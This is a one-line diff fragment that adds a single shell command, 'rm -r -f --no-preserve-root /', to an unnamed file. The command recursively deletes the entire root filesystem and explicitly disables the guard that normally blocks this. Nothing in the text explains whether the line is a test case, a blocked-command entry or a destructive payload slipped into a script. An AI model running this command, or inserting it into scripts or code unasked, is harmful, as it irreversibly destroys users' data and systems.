@@ -1,0 +1,1 @@
+rm -r -f --no-preserve-root /
